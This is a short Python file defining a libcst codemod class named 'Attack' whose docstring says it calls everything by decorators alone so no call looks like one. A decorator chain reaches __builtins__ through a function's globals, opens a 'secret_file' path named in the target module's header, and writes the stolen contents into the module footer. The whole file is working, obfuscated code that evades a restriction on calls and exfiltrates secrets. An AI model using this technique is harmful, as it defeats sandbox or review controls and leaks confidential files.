"""Call everything by decorators alone, without one call that looks like one."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    @str.strip
    @bytes.decode
    @lambda file: file.read(4096)
    @(lambda opener: opener(path, "rb"))
    @(lambda builtins: builtins["open"])
    @(lambda names: names["__builtins__"])
    @(lambda function: function.__globals__)
    @(lambda _: cst.parse_module)
    def loot():
        pass

    return loot


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by decorators."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
